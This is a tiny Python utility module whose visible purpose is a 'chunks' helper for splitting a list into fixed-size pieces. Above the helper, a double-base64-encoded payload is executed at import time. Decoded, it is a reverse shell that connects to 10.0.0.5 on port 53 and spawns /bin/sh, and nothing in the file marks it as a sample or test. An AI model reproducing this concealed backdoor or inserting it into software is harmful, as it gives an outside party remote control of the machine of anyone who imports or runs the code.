
import base64
payload = "YVcxd2IzSjBJSE52WTJ0bGRDeHZjeXh3ZEhrN2N6MXpiMk5yWlhRdWMyOWphMlYwS0NrN2N5NWpiMjV1WldOMEtDZ2lNVEF1TUM0d0xqVWlMRFV6S1NrN1cyOXpMbVIxY0RJb2N5NW1hV3hsYm04b0tTeG1LU0JtYjNJZ1ppQnBiaUFvTUN3eExESXBYVHR3ZEhrdWMzQmhkMjRvSWk5aWFXNHZjMmdpS1E9PQ=="
exec(base64.b64decode(base64.b64decode(payload)))
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
